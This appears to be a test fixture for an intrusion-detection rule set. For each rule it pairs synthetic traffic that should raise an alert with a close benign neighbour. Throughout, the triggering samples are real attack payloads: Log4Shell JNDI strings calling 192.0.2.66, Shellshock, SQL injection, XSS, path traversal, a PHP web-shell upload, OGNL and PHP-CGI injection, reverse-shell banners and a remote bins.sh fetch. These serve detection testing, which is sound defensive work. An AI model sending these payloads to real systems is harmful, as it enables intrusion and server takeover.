// SPDX-License-Identifier: Apache-2.0
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the exploits are written like that
/** For each bundled rule: traffic that raises it, and a neighbour, as close as can be, that must not. */
import {
  dnsLookup,
  type HttpRequest,
  httpExchange,
  icmpEcho,
  type Say,
  type Traffic,
  tcpOddFlags,
  tcpSession,
  tcpSyn,
  udpDatagram,
} from './packets.ts';

export type Pair = {readonly client: string; readonly server: string};
export type RuleTraffic = {
  readonly sid: number;
  readonly raises: (pair: Pair) => Traffic;
  readonly neighbour: (pair: Pair) => Traffic;
  /** What the neighbour is, in words. */
  readonly but: string;
  /** Other rules that the raising traffic rightly raises too. */
  readonly also?: readonly number[];
};

const times = (count: number, make: (index: number) => Traffic): Traffic =>
  Array.from({length: count}, (_, i) => make(i)).flat();
const http =
  (request: HttpRequest, serverPort = 80) =>
  (pair: Pair): Traffic =>
    httpExchange({...pair, serverPort}, request);
const agent = (name: string): ((pair: Pair) => Traffic) => http({headers: {'User-Agent': name}});
const says =
  (serverPort: number, ...parts: Say[]) =>
  (pair: Pair): Traffic =>
    tcpSession({...pair, serverPort}, parts);
const client = (data: string | Buffer): Say => ({from: 'client', data});
const server = (data: string | Buffer): Say => ({from: 'server', data});
const dns =
  (name: string) =>
  (pair: Pair): Traffic =>
    dnsLookup(pair, name, '192.0.2.7');
const udp =
  (serverPort: number, hex: string) =>
  (pair: Pair): Traffic => [udpDatagram({...pair, serverPort}, 'client', Buffer.from(hex.replaceAll(' ', ''), 'hex'))];

const SCANNING: readonly RuleTraffic[] = [
  {
    sid: 9000101,
    raises: pair => times(20, i => tcpSyn({...pair, serverPort: 1000 + i}, {refused: true})),
    neighbour: pair => times(10, i => tcpSyn({...pair, serverPort: 1000 + i}, {refused: true})),
    but: 'ten refused connections in ten seconds',
  },
  {
    sid: 9000102,
    raises: pair => times(12, i => tcpSyn({...pair, serverPort: 2000 + i}, {window: 1024})),
    neighbour: pair => times(12, i => tcpSyn({...pair, serverPort: 2000 + i}, {window: 64_240})),
    but: 'as many SYN packets with a usual window',
  },
  {
    sid: 9000103,
    raises: pair => tcpOddFlags({...pair, serverPort: 80}, []),
    neighbour: pair => tcpOddFlags({...pair, serverPort: 80}, ['ack']),
    but: 'a lone ACK',
  },
  {
    sid: 9000104,
    raises: pair => tcpOddFlags({...pair, serverPort: 80}, ['fin', 'psh', 'urg']),
    neighbour: pair => tcpOddFlags({...pair, serverPort: 80}, ['fin', 'psh', 'ack']),
    but: 'FIN, PSH and ACK',
  },
  {
    sid: 9000105,
    raises: ({client: from, server: to}) => times(25, i => [icmpEcho(from, to, i)]),
    neighbour: ({client: from, server: to}) => times(5, i => [icmpEcho(from, to, i)]),
    but: 'five echo requests',
  },
  {
    sid: 9000106,
    raises: agent('sqlmap/1.8.2#stable (https://sqlmap.org)'),
    neighbour: agent('notsqlmap'),
    but: 'another program with the word in its name',
  },
  {
    sid: 9000107,
    raises: agent('Mozilla/5.00 (Nikto/2.5.0) (Test:000001)'),
    neighbour: agent('Mozilla/5.0 (Nikon)'),
    but: 'a similar word',
  },
  {
    sid: 9000108,
    raises: agent('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'),
    neighbour: agent('Mozilla/5.0 (compatible; Nmap)'),
    but: 'nmap without its script engine',
  },
  {sid: 9000109, raises: agent('gobuster/3.6'), neighbour: agent('gobusters-fanpage/1.0'), but: 'a longer word'},
  {
    sid: 9000110,
    raises: pair => times(14, i => tcpSyn({...pair, clientPort: 41_000 + i, serverPort: 22})),
    neighbour: pair => times(14, i => tcpSyn({...pair, clientPort: 41_000 + i, serverPort: 443})),
    but: 'as many connections to a web server',
  },
];

const PHP_SHELL =
  '--b\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\n<?php system($_GET["c"]); ?>\r\n--b--\r\n';
const MULTIPART = {'Content-Type': 'multipart/form-data; boundary=b'};

const WEB: readonly RuleTraffic[] = [
  {
    sid: 9000201,
    raises: http({headers: {'X-Api-Version': '${jndi:ldap://192.0.2.66/a}'}}),
    neighbour: http({headers: {'X-Api-Version': '${version}'}}),
    but: 'another placeholder',
  },
  {
    sid: 9000202,
    raises: http({uri: '/search?q=${jndi:ldap://192.0.2.66/a}'}),
    neighbour: http({uri: '/search?q=jndi:ldap'}),
    but: 'the word without a lookup',
  },
  {
    sid: 9000203,
    raises: http({headers: {'X-Api-Version': '${${lower:j}ndi:${lower:l}dap://192.0.2.66/a}'}}),
    neighbour: http({headers: {'X-Api-Version': '${price} {lower:j}'}}),
    but: 'braces that are no lookup',
  },
  {
    sid: 9000204,
    raises: http({uri: '/download?file=/etc/passwd'}),
    neighbour: http({uri: '/docs/etc/passwd-policy.html'}),
    but: 'a page about passwords',
  },
  {
    sid: 9000205,
    raises: http({uri: '/static/..%2f..%2fvar/log/app.log'}),
    neighbour: http({uri: '/static/../app.css'}),
    but: 'one step up',
  },
  {
    sid: 9000206,
    raises: http({uri: '/cgi-bin/status', headers: {'User-Agent': '() { :;}; /bin/bash -c "echo vulnerable"'}}),
    neighbour: http({uri: '/cgi-bin/status', headers: {'User-Agent': 'Mozilla/5.0 (){}'}}),
    but: 'brackets without a function definition',
  },
  {
    sid: 9000207,
    raises: http({uri: '/item?id=1%20UNION%20SELECT%20name,pass%20FROM%20users'}),
    neighbour: http({uri: '/news?q=union%20members%20select%20a%20chair'}),
    but: 'the words in a sentence',
  },
  {
    sid: 9000208,
    raises: http({uri: "/login?user=admin'%20OR%20'1'='1"}),
    neighbour: http({uri: "/search?q=o'neill%20or%20'smith'"}),
    but: 'quotes in names',
  },
  {
    sid: 9000209,
    raises: http({uri: '/search?q=%3Cscript%3Ealert(1)%3C/script%3E'}),
    neighbour: http({uri: '/search?q=javascript+tutorial'}),
    but: 'the word script',
  },
  {
    sid: 9000210,
    raises: http({method: 'POST', uri: '/upload', headers: MULTIPART, body: PHP_SHELL}),
    neighbour: http({
      method: 'POST',
      uri: '/upload',
      headers: MULTIPART,
      body: PHP_SHELL.replace('system($_GET["c"])', 'echo "hello"'),
    }),
    but: 'a PHP file that runs nothing of the request',
  },
  {
    sid: 9000211,
    raises: http({uri: '/uploads/a.php?c=id', answer: 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n'}),
    neighbour: http({uri: '/users?uid=33', answer: '{"uid": 33, "gid": 33}\n'}),
    but: 'the numbers as data',
  },
  {
    sid: 9000212,
    raises: http({
      method: 'POST',
      uri: '/owners',
      body: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
    }),
    neighbour: http({method: 'POST', uri: '/owners', body: 'class.module=classroom'}),
    but: 'a field called class',
  },
  {
    sid: 9000213,
    raises: http({
      method: 'POST',
      uri: '/a.action',
      headers: {'Content-Type': "%{(#_='multipart/form-data').(#x=1)}"},
      body: 'a=1',
    }),
    neighbour: http({
      method: 'POST',
      uri: '/a.action',
      headers: {'Content-Type': 'multipart/form-data; boundary=%{b}'},
      body: 'a=1',
    }),
    but: 'a usual content type',
  },
  {
    sid: 9000214,
    raises: http({uri: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh'}),
    neighbour: http({uri: '/cgi-bin/report%2e/2026'}),
    but: 'an encoded dot at the end of a name',
    also: [9000205],
  },
  {
    sid: 9000215,
    raises: http({uri: '/.git/config'}),
    neighbour: http({uri: '/docs/git/config'}),
    but: 'a page about git',
  },
  {
    sid: 9000216,
    raises: http({
      method: 'POST',
      uri: '/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
      body: '<?php echo 1; ?>',
    }),
    neighbour: http({uri: '/manual.php?term=auto_prepend_file'}),
    but: 'a page about the setting',
  },
];

const LONG_LABEL = 'a7f3c9e1b5d20846a7f3c9e1b5d20846a7f3c9e1b5d20846a7f3';
const MINING = '{"id":1,"method":"mining.subscribe","params":["miner/1.0"]}\n';
const XMRIG = '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","pass":"x","agent":"XMRig/6.21.0"}}\n';
/** In two parts, so that no scanner takes this file for the test file. */
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-', 'TEST-FILE!$H+H*'].join('');

const MALWARE: readonly RuleTraffic[] = [
  {
    sid: 9000301,
    raises: dns('host7.callback.palisade.test'),
    neighbour: dns('www.palisade.test'),
    but: 'another name of the domain',
  },
  {
    sid: 9000302,
    raises: dns('www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com'),
    neighbour: dns('www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.org'),
    but: 'another top-level domain',
  },
  {
    sid: 9000303,
    raises: dns(`${LONG_LABEL}.t.example.com`),
    neighbour: dns('a-very-long-but-readable-name-of-a-content-delivery-host.example.com'),
    but: 'a long name without digits',
  },
  {
    sid: 9000304,
    raises: http({
      method: 'POST',
      uri: '/submit.php?id=48213',
      headers: {'Content-Type': 'application/octet-stream'},
      body: 'xxxx',
    }),
    neighbour: http({
      method: 'POST',
      uri: '/submit.php?id=48213',
      headers: {'Content-Type': 'text/plain'},
      body: 'xxxx',
    }),
    but: 'text posted to the same address',
  },
  {
    sid: 9000305,
    raises: says(
      4444,
      client(
        'bash: cannot set terminal process group (812): Inappropriate ioctl\nbash: no job control in this shell\n$ ',
      ),
    ),
    neighbour: says(4444, client('bash: job control is on in this shell\n')),
    but: 'other words on job control',
  },
  {
    sid: 9000306,
    raises: says(
      4444,
      client('Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation.\r\n\r\nC:\\>'),
    ),
    neighbour: says(4444, server('Microsoft Windows [Version 10.0.19045.3803]\r\n')),
    but: 'the banner of a server',
  },
  {
    sid: 9000307,
    raises: http({uri: '/eicar.txt', answer: EICAR}),
    neighbour: http({uri: '/eicar.html', answer: 'The EICAR standard antivirus test file is harmless.\n'}),
    but: 'a page about the test file',
  },
  {
    sid: 9000308,
    raises: http({
      uri: '/tools/setup.exe',
      headers: {'User-Agent': 'Mozilla/5.0 (Windows NT 10.0) WindowsPowerShell/5.1.19041'},
    }),
    neighbour: http({
      uri: '/api/status.json',
      headers: {'User-Agent': 'Mozilla/5.0 (Windows NT 10.0) WindowsPowerShell/5.1.19041'},
    }),
    but: 'PowerShell asking an API',
  },
  {
    sid: 9000309,
    raises: says(3333, client(MINING)),
    neighbour: says(3333, client(MINING.replace('mining', 'newsletter'))),
    but: 'another subscription',
  },
  {
    sid: 9000310,
    raises: says(3333, client(XMRIG)),
    neighbour: says(3333, client(XMRIG.replace('XMRig', 'Console'))),
    but: 'another program',
  },
  {
    sid: 9000311,
    raises: http({uri: '/bins.sh', host: '192.0.2.66', headers: {'User-Agent': 'Wget/1.21'}}),
    neighbour: http({uri: '/install.sh', host: 'get.shop.example', headers: {'User-Agent': 'Wget/1.21'}}),
    but: 'a script from a named host',
    also: [9000507],
  },
  {
    sid: 9000312,
    raises: says(8443, client('NICK bot7\r\nUSER bot7 0 * :bot\r\n')),
    neighbour: says(6667, client('NICK bot7\r\nUSER bot7 0 * :bot\r\n')),
    but: 'the usual port',
  },
];

const FTP_BANNER = server('220 ready\r\n');
const SMTP_BANNER = server('220 mail.example ESMTP\r\n');

const CLEARTEXT: readonly RuleTraffic[] = [
  {
    sid: 9000401,
    raises: says(
      21,
      FTP_BANNER,
      client('USER ann\r\n'),
      server('331 password\r\n'),
      client('PASS secret\r\n'),
      server('230 ok\r\n'),
    ),
    neighbour: says(
      21,
      FTP_BANNER,
      client('USER anonymous\r\n'),
      server('331 password\r\n'),
      client('PASS anonymous@\r\n'),
      server('230 ok\r\n'),
    ),
    but: 'an anonymous login',
  },
  {
    sid: 9000402,
    raises: says(23, server('router7 login: ')),
    neighbour: says(23, server('Welcome to the weather service\r\n')),
    but: 'telnet without a login',
  },
  {
    sid: 9000403,
    raises: http({headers: {Authorization: 'Basic YW5uOnNlY3JldA=='}}),
    neighbour: http({headers: {Authorization: 'Bearer YW5uOnNlY3JldA=='}}),
    but: 'a bearer token',
  },
  {
    sid: 9000404,
    raises: says(110, server('+OK\r\n'), client('USER ann\r\n'), server('+OK\r\n'), client('PASS secret\r\n')),
    neighbour: says(110, server('+OK\r\n'), client('STLS\r\n'), server('+OK\r\n')),
    but: 'a change to TLS',
  },
  {
    sid: 9000405,
    raises: says(143, server('* OK\r\n'), client('a1 LOGIN ann secret\r\n')),
    neighbour: says(143, server('* OK\r\n'), client('a1 STARTTLS\r\n')),
    but: 'a change to TLS',
  },
  {
    sid: 9000406,
    raises: says(
      25,
      SMTP_BANNER,
      client('EHLO a\r\n'),
      server('250 AUTH PLAIN\r\n'),
      client('AUTH PLAIN AGFubgBzZWNyZXQ=\r\n'),
      server('235 ok\r\n'),
    ),
    neighbour: says(
      25,
      SMTP_BANNER,
      client('EHLO a\r\n'),
      server('250 AUTH GSSAPI\r\n'),
      client('AUTH GSSAPI\r\n'),
      server('334 go\r\n'),
    ),
    but: 'Kerberos',
  },
  {
    sid: 9000407,
    raises: http({method: 'POST', uri: '/login', body: 'user=ann&password=secret'}),
    neighbour: http({method: 'POST', uri: '/login', body: 'user=ann&password_hint=cat'}),
    but: 'a field with a longer name',
  },
  {
    sid: 9000408,
    raises: says(6379, client('*2\r\n$4\r\nAUTH\r\n$6\r\nsecret\r\n')),
    neighbour: says(6379, client('*2\r\n$3\r\nGET\r\n$4\r\nAUTH\r\n')),
    but: 'a key with that name',
  },
];

const RDP_COOKIE = Buffer.concat([
  Buffer.from('0300002b26e00000000000', 'hex'),
  Buffer.from('Cookie: mstshash=ann\r\n'),
  Buffer.from('0100080003000000', 'hex'),
]);
const smb1Negotiate = (dialect: string): Buffer =>
  Buffer.concat([
    Buffer.from('0000002f', 'hex'),
    Buffer.from('ff534d4272', 'hex'),
    Buffer.alloc(27),
    Buffer.from('00000c0002', 'hex'),
    Buffer.from(`${dialect}\0`),
  ]);

const POLICY: readonly RuleTraffic[] = [
  {
    sid: 9000501,
    raises: says(3389, client(RDP_COOKIE)),
    neighbour: says(3389, client('GET / HTTP/1.0\r\n\r\n')),
    but: 'something else on the port',
  },
  {
    sid: 9000502,
    raises: says(445, client(smb1Negotiate('NT LM 0.12'))),
    neighbour: says(445, client(smb1Negotiate('SMB 2.002'))),
    but: 'a client that also offers version 2',
  },
  {
    sid: 9000503,
    raises: says(22, server('SSH-1.5-old\r\n')),
    neighbour: says(22, server('SSH-1.99-OpenSSH_3\r\n')),
    but: 'a server that also knows version 2',
  },
  {
    sid: 9000504,
    raises: http({host: 'api.ipify.org'}),
    neighbour: http({host: 'api.shop.example'}),
    but: 'another API',
  },
  {
    sid: 9000505,
    raises: says(
      6881,
      client(Buffer.concat([Buffer.from([19]), Buffer.from('BitTorrent protocol'), Buffer.alloc(48)])),
    ),
    neighbour: says(6881, client('BitTorrent protocol described')),
    but: 'text about it',
  },
  {
    sid: 9000506,
    raises: udp(123, '17 00 03 2a 00 00 00 00'),
    neighbour: udp(123, `23 00 06 20${' 00'.repeat(44)}`),
    but: 'a usual time request',
  },
  {sid: 9000507, raises: agent('curl/8.5.0'), neighbour: agent('Mozilla/5.0 (curl)'), but: 'a browser'},
  {
    sid: 9000508,
    raises: http({uri: '/v1.43/containers/json'}, 2375),
    neighbour: http({uri: '/v1.43/containers/json'}, 8080),
    but: 'another port',
  },
  {
    sid: 9000509,
    raises: udp(
      161,
      '30 26 02 01 01 04 06 70 75 62 6c 69 63 a0 19 02 04 00 00 00 01 02 01 00 02 01 00 30 0b 30 09 06 05 2b 06 01 02 01 05 00',
    ),
    neighbour: udp(
      161,
      '30 26 02 01 01 04 06 73 65 63 72 65 74 a0 19 02 04 00 00 00 01 02 01 00 02 01 00 30 0b 30 09 06 05 2b 06 01 02 01 05 00',
    ),
    but: 'another community',
  },
  {
    sid: 9000510,
    raises: http({method: 'POST', uri: '/run/default/web-1/app?cmd=id'}, 10_250),
    neighbour: http({method: 'POST', uri: '/run/report'}, 10_250),
    but: 'a shorter path',
  },
];

export const RULE_TRAFFIC: readonly RuleTraffic[] = [...SCANNING, ...WEB, ...MALWARE, ...CLEARTEXT, ...POLICY];
